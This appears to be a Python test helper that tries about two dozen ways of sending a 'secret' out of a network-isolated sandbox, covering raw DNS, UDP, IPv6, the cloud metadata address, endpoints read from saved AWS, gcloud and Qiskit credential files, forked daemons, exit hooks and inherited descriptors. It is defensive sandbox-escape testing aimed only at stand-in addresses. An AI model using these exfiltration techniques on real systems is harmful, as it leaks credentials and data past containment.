"""Programs that try to get out: each one way, to an address of its own. Only for test_nothing_escapes.py.

They are run inside a network namespace without a route to anywhere, and refuse to run elsewhere.
"""

from __future__ import annotations

import atexit
import configparser
import ctypes
import json
import os
import re
import socket
import struct
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Callable
from pathlib import Path

#: documentation networks (RFC 5737, 3849) and two well-known addresses; all of them are stand-ins' here
METADATA, RESOLVER, SECOND_RESOLVER = "169.254.169.254", "8.8.8.8", "8.8.4.4"
ACCOUNT, PROFILE, TOKEN = "198.51.100.1", "198.51.100.2", "198.51.100.3"
BY_NAME = "203.0.113.80"
HTTPS = 443
_LIMIT_S = 3.0


def v4(last: int) -> str:
    """An address for one leak."""
    return f"203.0.113.{last}"


def v6(last: int) -> str:
    """An address for one leak."""
    return f"2001:db8::{last}"


def tell(address: str, port: int = HTTPS, kind: int = socket.SOCK_STREAM) -> None:
    """Send a secret."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, kind) as out:
        out.settimeout(_LIMIT_S)
        try:
            out.connect((address, port))
            out.sendall(b"secret")
        except OSError as error:
            print(f"{address} {port}: {error}")


def tell_by_name(name: str, port: int = HTTPS) -> None:
    """Look a name up and send a secret there."""
    try:
        address = socket.gethostbyname(name)
    except OSError as error:
        print(f"{name}: {error}")
    else:
        tell(address, port)


def homes() -> list[Path]:
    """Where a client looks for what it saved: HOME, and the home that the machine knows of."""
    return [Path.home(), Path(os.environ["REAL_HOME"])]


def saved(path: str) -> Path | None:
    """A saved file, wherever it is."""
    return next((h / path for h in homes() if (h / path).exists()), None)


def saved_account() -> None:
    file = saved(".qiskit/qiskit-ibm.json")
    tell(json.loads(file.read_text())["default"]["url"]) if file else tell_by_name("account.example")


def aws_profile() -> None:
    file = saved(".aws/config")
    if file is None:
        return tell_by_name("profile.example")
    parser = configparser.ConfigParser()
    parser.read(file)
    return tell(parser["default"]["endpoint_url"])


def gcloud_profile() -> None:
    file = saved(".config/gcloud/application_default_credentials.json")
    tell(json.loads(file.read_text())["token_uri"]) if file else tell_by_name("token.example")


def metadata_service() -> None:
    tell(METADATA, 80)


def hard_coded_address() -> None:
    tell(v4(5))


def hard_coded_url() -> None:
    try:
        urllib.request.urlopen("http://url.example:8080/jobs", timeout=_LIMIT_S)
    except OSError as error:
        print(error)


def child_process() -> None:
    subprocess.run([sys.executable, __file__, "as_a_child"], check=False)


def as_a_child() -> None:
    tell(v4(7))


def daemon() -> None:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(0.3)  # its parents are gone by then
            tell(v4(8))
        os._exit(0)
    os.wait()
    time.sleep(0.8)


def _query(name: str) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)


def raw_dns() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.settimeout(_LIMIT_S)
        out.sendto(_query("exfiltrated.example"), (RESOLVER, 53))
        try:
            print(out.recv(512))
        except OSError as error:
            print(error)


def dns_by_tcp() -> None:
    tell(SECOND_RESOLVER, 53)


def udp() -> None:
    tell(v4(10), 8125, socket.SOCK_DGRAM)


def ipv6() -> None:
    tell(v6(11))


def ipv6_udp() -> None:
    tell(v6(22), 8125, socket.SOCK_DGRAM)


def proxy() -> None:
    try:
        urllib.request.urlopen("http://proxied.example/", timeout=_LIMIT_S)
    except OSError as error:
        print(error)


def redirect() -> None:
    try:
        urllib.request.urlopen(os.environ["FRIEND"], timeout=_LIMIT_S)
    except OSError as error:
        print(error)


def late_thread() -> None:
    threading.Timer(0.3, tell, (v4(14),)).start()


def at_exit() -> None:
    atexit.register(tell, v4(15))


def _tell_unix(path: str) -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as out:
        try:
            out.connect(path)
            out.sendall(b"secret")
            out.recv(1)
        except OSError as error:
            print(f"{path}: {error}")


def abstract_socket() -> None:
    _tell_unix("\0" + os.environ["ABSTRACT"])


def socket_file() -> None:
    _tell_unix(os.environ["SOCKET_FILE"])


def other_user() -> None:
    if os.fork() == 0:
        if os.getuid() == 0 and "0 4294967295" in re.sub(" +", " ", Path("/proc/self/uid_map").read_text()).strip():
            os.setgid(65534)
            os.setuid(65534)
        tell(v4(18))
        os._exit(0)
    os.wait()


def native_lookup() -> None:
    libc, found = ctypes.CDLL(None), ctypes.c_void_p()
    code = libc.getaddrinfo(b"native.example", b"443", None, ctypes.byref(found))
    print("getaddrinfo", code)
    if code == 0:
        tell(BY_NAME)


def other_services() -> None:
    tell("127.0.0.1", int(os.environ["OTHER_SERVICE"]))


def fire_and_forget() -> None:
    out = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
    print(out.connect_ex((v4(25), HTTPS)))
    time.sleep(0.05)


def insisting() -> None:
    for _ in range(300):
        tell(v4(9))


def inherited_descriptor() -> None:
    for number in range(3, 256):
        try:
            os.write(number, b"secret")
        except OSError:
            continue


def allowed() -> None:
    """No leak, but for the last two: places that may be reached, then others of the same hosts."""
    tell_by_name("allowed.example")
    tell(v4(5))
    tell(v6(11))
    tell_by_name("allowed.example", 80)
    tell(v4(5), 80)


LEAKS: dict[str, Callable[[], None]] = {
    f.__name__: f
    for f in (
        saved_account, aws_profile, gcloud_profile, metadata_service, hard_coded_address, hard_coded_url, child_process,
        daemon, raw_dns, dns_by_tcp, udp, ipv6, ipv6_udp, proxy, redirect, late_thread, at_exit, abstract_socket,
        socket_file, other_user, native_lookup, other_services, fire_and_forget, insisting, inherited_descriptor,
    )
}  # fmt: skip


def main() -> None:
    if [name for _, name in socket.if_nameindex()] != ["lo"]:
        sys.exit("only in a network namespace without a route to anywhere")
    {**LEAKS, "as_a_child": as_a_child, "allowed": allowed}[sys.argv[1]]()


if __name__ == "__main__":
    main()
